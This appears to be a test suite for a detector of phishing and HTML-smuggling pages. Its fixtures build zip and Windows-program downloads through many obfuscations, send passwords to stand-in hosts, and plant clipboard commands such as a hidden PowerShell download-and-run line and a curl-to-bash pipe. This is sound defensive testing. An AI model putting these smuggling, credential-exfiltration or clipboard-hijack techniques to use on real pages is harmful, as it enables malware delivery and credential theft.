import assert from "node:assert/strict";
import { test } from "node:test";
import { readActs } from "./read-acts.ts";
import { readPage } from "./read-page.ts";

/** An archive of one empty member, which is what is smuggled here. */
const zip = Buffer.concat([
  Buffer.from("504b03040a0000000000000021000000000000000000000000000900000061", "hex"),
  Buffer.from("2e7363722e747874".padEnd(200, "0"), "hex"),
]);
const program = Buffer.concat([
  Buffer.from("MZ"),
  Buffer.alloc(58),
  Buffer.from([0x40, 0, 0, 0]),
  Buffer.from("PE\0\0"),
  Buffer.from([0x64, 0x86, 1, 0]),
  Buffer.alloc(300),
]);
const read = (source: string) => readActs(readPage(source));
const inScript = (code: string) => read(`<html><body><script>${code}</script></body></html>`);
const handOver = `var blob=new Blob([bytes],{type:"octet/stream"});var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="Invoice.zip";document.body.appendChild(a);a.click();`;

const base64 = zip.toString("base64");
const numbers = (bytes: Uint8Array, change: (byte: number) => number = (byte) => byte) =>
  `[${[...bytes].map(change).join(",")}]`;
for (const [what, code] of [
  ["base64", `var bytes=Uint8Array.from(atob("${base64}"),c=>c.charCodeAt(0));`],
  ["base64 in two", `var bytes=dec(atob("${base64.slice(0, 100)}"+\n'${base64.slice(100)}'));`],
  ["base64 in a list", `var bytes=dec(atob(["${base64.match(/.{1,40}/gu)?.join('","')}"].join("")));`],
  [
    "base64 that grows",
    `var s="";${base64
      .match(/.{1,40}/gu)
      ?.map((piece) => `s+="${piece}";`)
      .join("")}var bytes=dec(atob(s));`,
  ],
  [
    "base64 backwards",
    `var bytes=dec(atob("${Array.from(base64).toReversed().join("")}".split("").reverse().join("")));`,
  ],
  ["base64 in names", `const p="${base64.slice(0, 80)}",q='${base64.slice(80)}';var bytes=dec(atob(p+q));`],
  [
    "escapes",
    `var bytes=dec(atob("${base64.replace(/[a-f]/gu, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`)}"));`,
  ],
  ["hex", `var bytes=fromHex("${zip.toString("hex")}",parseInt);`],
  ["numbers", `var bytes=new Uint8Array(${numbers(zip)});`],
  ["numbers and a key", `var bytes=new Uint8Array(${numbers(zip, (byte) => byte ^ 77)}.map(x=>x^77));`],
  [
    "numbers and a difference",
    `var bytes=String.fromCharCode(...${numbers(zip, (byte) => byte + 900)}.map(x=>x-900));`,
  ],
  [
    "a key in words",
    `var k="hunter";var bytes=dec(atob("${Buffer.from(zip.map((byte, at) => byte ^ "hunter".charCodeAt(at % 6))).toString("base64")}"),(c,i)=>c^"hunter".charCodeAt(i%6));`,
  ],
] as const)
  test(`a file is built from ${what} and handed over`, () => {
    const acts = inScript(code + handOver);
    assert.deepEqual(
      acts.files.map(({ type, name, fate }) => [type, name, fate]),
      [["zip", "Invoice.zip", "handed over"]],
    );
    assert.deepEqual(Buffer.from(acts.files[0]?.bytes ?? []), zip);
    assert.equal(acts.handsOverByItself, true);
  });

test("names of functions cut in pieces are put together", () => {
  const acts = inScript(
    `var b=new window["Bl"+"ob"]([window["at"+"ob"]("${program.toString("base64")}")]);var u=window["URL"]["creat"+"eObj"+"ectURL"](b);el["cli"+"ck"]();`,
  );
  assert.equal(acts.files[0]?.type, "windows-program");
  assert.equal(acts.files[0]?.fate, "handed over");
});

test("a file in an attribute, in hidden text or in a script of data is found", () => {
  const rest = `<script>var bytes=atob(document.getElementById("x").textContent);${handOver}</script>`;
  for (const store of [
    `<div id=x data-y="${base64}"></div>`,
    `<div id=x style="display:none">${base64}</div>`,
    `<script id=x type="text/plain">${base64}</script>`,
    `<input type=hidden value="${base64}">`,
  ])
    assert.equal(read(store + rest).files[0]?.type, "zip", store.slice(0, 30));
});

test("data addresses that become downloads or pages are files", () => {
  const acts = read(
    `<a href="data:application/octet-stream;base64,${program.toString("base64")}" download="Setup.exe">x</a><iframe src="data:text/html;base64,${Buffer.from("<script>go()</script>").toString("base64")}"></iframe><img src="data:image/png;base64,iVBORw0KGgo="><a href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ" download=x.png>`,
  );
  assert.deepEqual(
    acts.files.map(({ type, name, fate }) => [type, name, fate]),
    [
      ["windows-program", "Setup.exe", "handed over"],
      ["html", "", "shown"],
    ],
  );
});

test("a drawing that builds a file is read like a page", () => {
  const source = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var bytes=atob("${base64}");${handOver}]]></script></svg>`;
  assert.equal(readActs(readPage(source, { syntax: "xml" })).files[0]?.type, "zip");
});

test("a page that writes itself from an encoded page", () => {
  const page = `<html><form action="https://collect.example/p"><input type=password></form></html>`;
  for (const code of [
    `document.write(atob("${Buffer.from(page).toString("base64")}"))`,
    `document.write(unescape("${Array.from(page)
      .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
      .join("")}"))`,
    `document.write(String.fromCharCode(${Array.from(page)
      .map((letter) => letter.charCodeAt(0))
      .join(",")}))`,
  ]) {
    const acts = inScript(code);
    assert.equal(acts.files[0]?.type, "html");
    assert.equal(acts.files[0]?.fate, "shown");
    assert.ok(acts.writesDecodedAt >= 0);
  }
});

test("redirects by a script and by the page itself", () => {
  const acts = read(
    `<meta http-equiv=refresh content="0;url=https://one.example/"><script>window.location.href="https://two.example/"+"a"; location.replace('https://three.example/'); top.location = "https://four.example/"; setTimeout(()=>window.open("https://five.example/"),1)</script>`,
  );
  assert.deepEqual(
    acts.opens.map(({ target }) => target),
    [
      "https://one.example/",
      "https://two.example/a",
      "https://three.example/",
      "https://four.example/",
      "https://five.example/",
    ],
  );
});

test("addresses written so that nobody reads them are found", () => {
  const acts = inScript(`location.href=atob("${Buffer.from("https://hidden.example/login").toString("base64")}")`);
  assert.deepEqual(
    acts.encodedAddresses.map(({ target }) => target),
    ["https://hidden.example/login"],
  );
});

test("passwords that are sent away by a form or a script", () => {
  assert.deepEqual(
    read(`<form action="https://collect.example/p" method=post><input name=u><input type=password></form>`).sends.map(
      ({ target, asks }) => [target, asks],
    ),
    [["https://collect.example/p", "password"]],
  );
  assert.deepEqual(
    read(
      `<input type=password id=p><script>fetch("https://api.telegram.org/bot1:x/sendMessage?text="+p.value)</script>`,
    ).sends.map(({ target }) => target.slice(0, 24)),
    ["https://api.telegram.org"],
  );
  assert.deepEqual(
    read(
      `<input type=password id=p><script>$.ajax({type:"POST",url:"https://collect.example/x.php",data:{p:$("#p").val(),q:e.value}})</script>`,
    ).sends.map(({ target }) => target),
    ["https://collect.example/x.php"],
  );
});

test("a command that is put into the clipboard", () => {
  const command = "powershell -w hidden -ep bypass -c iex(irm https://fix.example/a)";
  for (const code of [
    `navigator.clipboard.writeText("${command}")`,
    `const t=document.createElement("textarea");t.value="${command}";t.select();document.execCommand("copy")`,
    `navigator.clipboard.writeText(atob("${Buffer.from(command).toString("base64")}"))`,
    `let c='power'+'shell -w hi'+'dden -c '+"x";navigator["clip"+"board"]["write"+"Text"](c)`,
  ])
    assert.match(inScript(code).copiedCommands[0]?.text ?? "", /^powershell -w hidden/u, code);
  assert.equal(
    read(`<button onclick="navigator.clipboard.writeText('curl -s https://x.example/i.sh | bash')">`).copiedCommands
      .length,
    1,
  );
});

const innocent: readonly (readonly [string, string])[] = [
  [
    "a saved page with analytics",
    `<!-- saved from url=(0023)https://www.shop.example/ --><html><head><script async src="https://www.googletagmanager.com/gtag/js"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script></head><body>Hello</body></html>`,
  ],
  [
    "a report with charts",
    `<script>function download(){var b=new Blob([s],{type:"image/png"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="plot.png";a.click()}var data={x:{bdata:"${Buffer.alloc(900, 65).toString("base64")}",dtype:"f8"}};atob(data.x.bdata)</script>`,
  ],
  [
    "a notebook",
    `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"><script type="text/x-mathjax-config">MathJax.Hub.Config({})</script><script>navigator.clipboard.writeText(cell.innerText)</script>`,
  ],
  [
    "an invoice with a print button",
    `<button onclick="window.print()">Print</button><table><tr><td>Total<td>12.00</table>`,
  ],
  [
    "a guide with a copy button",
    `<pre><code>curl -fsSL https://get.example/install.sh | sh</code></pre><button class=copy></button><script>document.querySelector(".copy").onclick=()=>navigator.clipboard.writeText(document.querySelector("code").textContent)</script>`,
  ],
  [
    "a page with a worker",
    `<script>new Worker(URL.createObjectURL(new Blob([atob("${Buffer.from("self.onmessage=function(e){postMessage(e.data*2)};".repeat(20)).toString("base64")}")])))</script>`,
  ],
  [
    "an address kept from collectors",
    `<script>document.write(unescape("%3Ca%20href%3D%22mailto%3Ainfo%40shop.example%22%3Einfo%40shop.example%3C%2Fa%3E"))</script>`,
  ],
];
for (const [what, source] of innocent)
  test(`${what} carries no file and copies no command`, () => {
    const acts = read(source);
    assert.deepEqual(
      acts.files.filter(({ type }) => type !== "html"),
      [],
    );
    assert.deepEqual(acts.copiedCommands, []);
    assert.deepEqual(acts.sends, []);
  });

const hostile: readonly (readonly [string, string])[] = [
  ["quotes", '"'.repeat(2_000_000)],
  ["templates", "`${".repeat(500_000)],
  ["numbers", "1,".repeat(2_000_000)],
  ["pieces", `var a="";${'a+="QUJDREVGR0hJSktMTU5P";'.repeat(50_000)}atob(a)`],
  ["patterns", "/[".repeat(1_000_000)],
  ["comments", "/*".repeat(1_000_000)],
  ["sums of names", `var a="x";${"a=a+a;".repeat(10_000)}`],
  ["base64", `atob("${"QUJD".repeat(3_000_000)}")`],
  ["keys", `${Array.from({ length: 500 }, (_, key) => `^${key}`).join("")};atob("${"xUJD".repeat(500_000)}")`],
  ["escapes", `"${"\\x41".repeat(1_000_000)}"`],
];
for (const [what, code] of hostile)
  test(`a script of ${what} is read in time`, { timeout: 20_000 }, () => {
    assert.ok(inScript(`${code};new Blob;reverse;`).shortfalls.length >= 0);
  });
